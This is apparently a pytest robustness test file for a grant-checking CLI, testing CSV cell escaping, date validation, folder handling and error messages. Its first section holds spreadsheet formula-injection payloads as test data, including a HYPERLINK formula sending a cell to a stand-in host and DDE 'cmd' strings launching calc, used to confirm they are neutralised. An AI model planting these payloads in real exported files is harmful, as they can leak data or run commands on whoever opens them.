"""Misuse, eighth round: cells a spreadsheet would run as formulas in the CSV outputs, folders
made on the way by outreach --out, a day written YYYY-MM-DD that the calendar lacks (2025-02-29)
said so everywhere, a CSV whose first line is blank, a TOML table declared twice. Through
typer's CliRunner, as a script runs it."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from grantcheck.render.csv import RowWriter, safe_cell
from tests.robustness.helpers import AS_OF, PROFILES, TINY, problems, run

ROOT = Path(__file__).resolve().parents[2]
ENHETER = ROOT / "tests" / "registry" / "data" / "mixed_enheter.csv"
NORDLYS = str(PROFILES / "nordlys-automation.toml")
SCREENED = "2026-11-23"


def _unmarked(cell: str) -> str:
    """What a program does to read a cell back: one ' off its front (docs/batch.md)."""
    return cell[1:] if cell.startswith("'") else cell


# --- (a) cells a spreadsheet would run -----------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Hi")', "+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_name_a_spreadsheet_would_run_is_written_as_text_in_the_batch_csv(tmp_path, name):
    """It went into the CSV as written: a spreadsheet opening fits.csv ran it (OWASP, CSV
    injection); the names come from registries anyone can register a name in."""
    src = tmp_path / "in.jsonl"
    src.write_text(json.dumps({"company": {"name": name, "country": "DK"}}) + "\n",
                   encoding="utf-8")
    r = run("batch", "--input", str(src), "-f", "csv", "--jobs", "1", "--as-of", AS_OF)
    assert r.exit_code == 0, r.stderr
    row = next(csv.DictReader(io.StringIO(r.stdout)))
    assert row["name"] == "'" + name
    assert _unmarked(row["name"]) == name


@pytest.mark.parametrize("name", ["'t Hooft BV", "''", "'=1"])
def test_a_name_that_starts_with_a_quote_gets_one_more_so_one_off_gives_it_back(name):
    assert safe_cell(name) == "'" + name and _unmarked(safe_cell(name)) == name


@pytest.mark.parametrize("cell", ["-5", "+5", "-0.25", "150000", "Plain ApS", "a=b", "", "1-2"])
def test_numbers_and_text_that_starts_otherwise_are_written_as_they_are(cell):
    assert safe_cell(cell) == cell


@given(st.lists(st.text(alphabet=st.sampled_from(list("ab=+-@'\t\r\n,\"1.")), max_size=6),
                min_size=2, max_size=8))
def test_a_reader_gets_back_every_row_by_taking_one_quote_off(row):
    got = next(csv.reader(io.StringIO(RowWriter().text(row))))
    assert [_unmarked(c) for c in got] == row


def test_a_shortlist_csv_marks_a_formula_name_too(tmp_path):
    src = tmp_path / "enheter.csv"
    text = ENHETER.read_text(encoding="utf-8").replace("FJORDLYS AS", "=FJORDLYS()")
    src.write_text(text, encoding="utf-8")
    r = run("shortlist", "--input", str(src), "--input-format", "brreg-enheter", "-f", "csv",
            "--as-of", SCREENED)
    assert r.exit_code == 0, r.stderr
    names = [row["name"] for row in csv.DictReader(io.StringIO(r.stdout))]
    assert "'=FJORDLYS()" in names and "SVENSK FILIAL NUF" in names


def test_control_characters_are_kept_in_the_csv_as_written(tmp_path):
    """The stated choice (docs/batch.md): a reader gets them back; the table escapes them."""
    src = tmp_path / "in.jsonl"
    src.write_text(json.dumps({"company": {"name": "Bell\u0007 \u001b[31mRed", "country": "DK"}})
                   + "\n", encoding="utf-8")
    r = run("batch", "--input", str(src), "-f", "csv", "--jobs", "1", "--as-of", AS_OF)
    assert next(csv.DictReader(io.StringIO(r.stdout)))["name"] == "Bell\u0007 \u001b[31mRed"


def test_a_name_with_a_carriage_return_is_quoted_so_a_reader_keeps_its_row(tmp_path):
    """The csv module quotes a cell with \n, the line end it writes, not one with a lone \r:
    "A\rB" went out unquoted and a reader split the row there (or refused it)."""
    src = tmp_path / "in.jsonl"
    src.write_text("".join(json.dumps({"company": {"name": n, "country": "DK"}}) + "\n"
                           for n in ("A\rB ApS", "C ApS")), encoding="utf-8")
    r = run("batch", "--input", str(src), "-f", "csv", "--jobs", "1", "--as-of", AS_OF)
    rows = list(csv.DictReader(io.StringIO(r.stdout, newline="")))
    assert [row["name"] for row in rows] == ["A\rB ApS", "C ApS"]


# --- (b) no command makes folders on the way --------------------------------------------------


def _outreach(out: str, *more: str) -> object:
    return run("outreach", "--input", str(ENHETER), "--as-of", SCREENED, "--out", out, *more)


def test_outreach_into_a_missing_folder_names_it_and_makes_none(tmp_path):
    """outreach --out a/b/pack made a/ and a/b/ without a word; batch --output, schema --output
    and init refuse a missing folder."""
    out = tmp_path / "a" / "b" / "pack"
    r = _outreach(str(out))
    assert r.exit_code == 2
    assert r.stderr == (f"Error: --out {out}: the folder {out.parent} does not exist\n"
                        f"Hint: make it first (mkdir -p {out.parent}), or give a path in a "
                        "folder that exists\n")
    assert not (tmp_path / "a").exists()


def test_outreach_makes_the_packs_own_folder(tmp_path):
    r = _outreach(f"{tmp_path / 'pack'}/")
    assert r.exit_code == 0, r.stderr
    assert (tmp_path / "pack" / "summary.md").is_file()


def test_outreach_under_a_file_names_the_file(tmp_path):
    (tmp_path / "notes.txt").write_text("mine\n", encoding="utf-8")
    r = _outreach(str(tmp_path / "notes.txt" / "pack"))
    assert r.exit_code == 2
    assert f"Error: --out {tmp_path / 'notes.txt' / 'pack'}: {tmp_path / 'notes.txt'} is a " \
           "file, not a folder" in r.stderr
    assert (tmp_path / "notes.txt").read_text(encoding="utf-8") == "mine\n"


def test_outreach_through_a_dangling_link_names_the_missing_folder(tmp_path):
    (tmp_path / "pack").symlink_to(tmp_path / "gone" / "pack")
    r = _outreach(str(tmp_path / "pack"))
    assert r.exit_code == 2 and f"the folder {tmp_path / 'gone'} does not exist" in r.stderr
    assert not (tmp_path / "gone").exists()


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into any folder")
def test_outreach_into_a_folder_it_cannot_write_says_so_before_any_work(tmp_path):
    (tmp_path / "ro").mkdir()
    (tmp_path / "ro").chmod(0o555)
    try:
        r = _outreach(str(tmp_path / "ro"))
    finally:
        (tmp_path / "ro").chmod(0o755)
    assert r.exit_code == 2 and "cannot be written to (permission denied)" in r.stderr
    assert "Wrote" not in r.stderr


# --- a day written YYYY-MM-DD that the calendar lacks ------------------------------------------

TOP = TINY


@pytest.mark.parametrize(("day", "why"), [
    ("2025-02-29", "no such day: February 2025 has 28 days; 2025 is no leap year"),
    ("2100-02-29", "no such day: February 2100 has 28 days; 2100 is no leap year"),
    ("2026-04-31", "no such day: April 2026 has 30 days"),
    ("2026-13-01", "no such day: a month is 01 to 12"),
    ("2026-01-00", "no such day: a day is 01 to the month's last"),
    ("0000-01-01", "no such day: the years run from 0001"),
])
def test_a_quoted_day_the_calendar_lacks_is_said_so_not_told_to_drop_its_quotes(day, why):
    """'must be a date written as YYYY-MM-DD, without quotes': it was written so, and without
    its quotes it is still no day."""
    assert problems(TOP + f'founded = "{day}"\n') == [f"company.founded: {why} (got '{day}')"]


def test_a_quoted_leap_day_of_a_leap_year_is_read():
    assert problems(TOP + 'founded = "2024-02-29"\n') == []


def test_a_toml_day_the_calendar_lacks_is_said_so_not_invalid_date_or_datetime():
    r = run("validate", "-", stdin=TOP + "founded = 2025-02-29\n")
    assert r.exit_code == 2
    assert r.stderr.startswith("Error: <stdin>:4:11: TOML syntax error: 2025-02-29 is no day: "
                               "February 2025 has 28 days; 2025 is no leap year\n")


def test_a_toml_date_time_the_calendar_lacks_is_said_so_too():
    r = run("validate", "-", stdin=TOP + "[project]\nstart = 2026-06-31T10:00:00\n")
    assert "TOML syntax error: 2026-06-31 is no day: June 2026 has 30 days" in r.stderr


@pytest.mark.parametrize("option", ["--as-of", "--start", "--end"])
def test_an_option_of_a_day_the_calendar_lacks_hints_the_months_last_day(option):
    args = (["budget", "--scheme", "dk-smv-digital", "--line", "consultancy=150000"]
            if option != "--as-of" else ["match", NORDLYS])
    r = run(*args, option, "2027-02-29", *(["--as-of", AS_OF] if option != "--as-of" else []))
    assert (r.exit_code, r.stderr) == (2, f"Error: {option} '2027-02-29': no such day: February "
                                       "2027 has 28 days; 2027 is no leap year\nHint: check the "
                                       f"month's days, e.g. {option} 2027-02-28\n")


def test_init_set_of_a_day_the_calendar_lacks_hints_the_months_last_day():
    r = run("init", "-", "--non-interactive", "--set", "company.name=A", "--set",
            "company.country=DK", "--set", "project.end=2026-09-31", "--as-of", AS_OF)
    assert r.exit_code == 2
    assert r.stderr == ("Error: --set project.end: '2026-09-31': no such day: September 2026 has "
                        "30 days\nHint: check the month's days, e.g. 2026-09-30\n")


def test_a_csv_cell_of_a_day_the_calendar_lacks_is_said_so(tmp_path):
    src = tmp_path / "in.csv"
    src.write_text("name,country,founded\nA ApS,DK,2023-02-29\n", encoding="utf-8")
    r = run("batch", "--input", str(src), "-f", "jsonl", "--jobs", "1", "--as-of", AS_OF)
    assert r.exit_code == 4
    assert (f"{src}:2: founded: no such day: February 2023 has 28 days; 2023 is no leap year "
            "(got '2023-02-29')") in r.stderr


# --- a CSV whose first line is blank; a TOML table declared twice ------------------------------


@pytest.mark.parametrize("fmt", ["csv", "brreg-enheter", "bolagsverket"])
@pytest.mark.parametrize("text", ["\n", "   \n\t\n", "\r\n", "\nname,country\nA ApS,DK\n"])
def test_a_csv_whose_first_line_is_blank_says_so(tmp_path, fmt, text):
    """grantcheck's CSV said "unknown column ''" (a line of spaces) or "no column 'name'"; a
    registry's, "not Enhetsregisteret's enheter file: no column 'organisasjonsnummer'"."""
    src = tmp_path / "in.csv"
    src.write_text(text, encoding="utf-8")
    r = run("batch", "--input", str(src), "--input-format", fmt, "--jobs", "1", "--as-of", AS_OF)
    assert (r.exit_code, r.stderr) == (2, f"Error: {src}: line 1 is blank: a CSV starts with "
                                       "its header row\nHint: take out the blank lines above "
                                       "the header row\n")


@pytest.mark.parametrize("fmt", ["csv", "brreg-enheter", "bolagsverket"])
def test_an_empty_registry_csv_says_it_is_empty(tmp_path, fmt):
    src = tmp_path / "in.csv"
    src.write_bytes(b"")
    r = run("batch", "--input", str(src), "--input-format", fmt, "--jobs", "1", "--as-of", AS_OF)
    assert (r.exit_code, r.stderr) == (2, f"Error: {src}: the file is empty: no header row\n")


@pytest.mark.parametrize(("toml", "table", "line"), [
    ("[company]\nname = 'B'\n", "company", 4),
    ("[company.x]\n[project]\n[company.x]\n", "company.x", 6),
])
def test_a_table_declared_twice_is_named_as_written(toml, table, line):
    """It was tomli's "Cannot declare ('company',) twice"."""
    found = problems(TOP + toml)
    assert len(found) == 1
    r = run("validate", "-", stdin=TOP + toml)
    assert f"Error: <stdin>:{line}:" in r.stderr
    assert f"TOML syntax error: the table [{table}] is declared twice (its keys go under one " \
           "header)" in r.stderr


def test_ctrl_c_in_outreach_says_the_pack_is_not_whole(tmp_path, monkeypatch):
    """It ended with 130 and no word (typer makes a KeyboardInterrupt its Exit(130)), the pack
    half written and no summary.md."""
    import grantcheck.outreach.pack as pack

    calls = []
    before = pack.questionnaire_md

    def then_ctrl_c(*args, **kwargs):  # type: ignore[no-untyped-def]
        calls.append(1)
        if len(calls) == 3:  # the second company's first questionnaire
            raise KeyboardInterrupt
        return before(*args, **kwargs)

    monkeypatch.setattr(pack, "questionnaire_md", then_ctrl_c)
    out = tmp_path / "pack"
    r = _outreach(str(out))
    assert r.exit_code == 130
    assert r.stderr.endswith(f"Interrupted: the pack in {out} is not whole: the files of 1 "
                             "company were written, not summary.md\nHint: run the command "
                             "again with --force to write it whole\n")
    assert not (out / "summary.md").exists()
    assert not [p for p in out.iterdir() if not p.name.endswith((".toml", ".md"))]


def test_a_byte_order_mark_inside_json_lines_says_two_files_were_joined(tmp_path):
    """The first line's is taken off; one further down (`cat a.jsonl b.jsonl`, each saved with
    one) was "Unexpected UTF-8 BOM (decode using utf-8-sig)", Python's words."""
    one = "\ufeff" + json.dumps({"company": {"name": "A ApS", "country": "DK"}}) + "\n"
    src = tmp_path / "joined.jsonl"
    src.write_text(one + one, encoding="utf-8")
    r = run("batch", "--input", str(src), "-f", "jsonl", "--jobs", "1", "--as-of", AS_OF)
    assert r.exit_code == 4
    assert (f"Error: {src}:2: not valid JSON: the line starts with a byte order mark (U+FEFF), "
            "which only a file's first line may: were two files joined (cat a.jsonl b.jsonl)?\n"
            "Hint: save each file as UTF-8 without a byte order mark before joining them\n"
            ) in r.stderr
    assert r.stdout.count("\n") == 2 and '"A ApS"' in r.stdout.splitlines()[0]


@pytest.mark.parametrize("given", ["EUR=1", "eur=2"])
def test_a_rate_for_the_euro_says_the_rates_are_per_euro(given):
    """It said "expected CUR=VALUE with CUR one of DKK, NOK, SEK", as for a currency unknown."""
    r = run("match", NORDLYS, "--as-of", AS_OF, "--rate", given)
    assert (r.exit_code, r.stderr) == (2, f"Error: --rate {given!r}: a rate is units per euro, "
                                       "so the euro's own is 1 and is not set\nHint: give the "
                                       "rate of DKK, NOK or SEK, e.g. --rate DKK=7.45\n")


def test_a_budget_without_lines_is_said_in_our_words():
    """It was pydantic's "List should have at least 1 item after validation, not 0"."""
    found = problems(TOP + "[budget]\nscheme = 'dk-smv-digital'\nlines = []\n")
    assert found == ["budget.lines: must hold at least 1 entry (got none)"]


def test_a_currency_on_a_budget_line_points_to_the_profiles_one():
    """The hint was "Did you mean 'incurred'?"."""
    from grantcheck.profile import ProfileError, parse_profile

    with pytest.raises(ProfileError) as e:
        parse_profile(TOP + "[budget]\nscheme = 'dk-smv-digital'\n[[budget.lines]]\n"
                      "category = 'consultancy'\namount = 100000\ncurrency = 'EUR'\n", "p.toml")
    [p] = e.value.problems
    assert (p.path, p.message, p.line) == ("budget.lines[0].currency", "unknown field", 9)
    assert p.hint == ("Every amount of a profile is in one currency, company.currency (DKK, NOK, "
                      "SEK or EUR): write this one in it")
